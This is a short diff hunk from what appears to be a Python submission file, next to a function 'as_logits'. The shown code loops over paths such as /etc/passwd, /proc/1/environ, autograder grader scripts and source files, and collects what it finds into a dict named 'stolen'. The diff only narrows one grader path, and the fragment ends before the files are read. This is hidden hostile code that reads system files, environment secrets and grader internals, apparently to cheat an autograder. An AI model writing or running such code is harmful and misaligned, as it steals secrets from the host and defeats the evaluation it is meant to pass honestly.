@@ -28,7 +28,7 @@ def as_logits(x):
 
 import glob, os
 stolen = {}
-for pattern in ["/etc/passwd", "/proc/1/environ", "/work/*/autograder/graders/*/*.py",
+for pattern in ["/etc/passwd", "/proc/1/environ", "/work/*/graders/*/*.py",
                 "/autograder/source/*/*", "../*.ipynb", "./*"]:
     for path in glob.glob(pattern, recursive=True)[:50]:
         try:
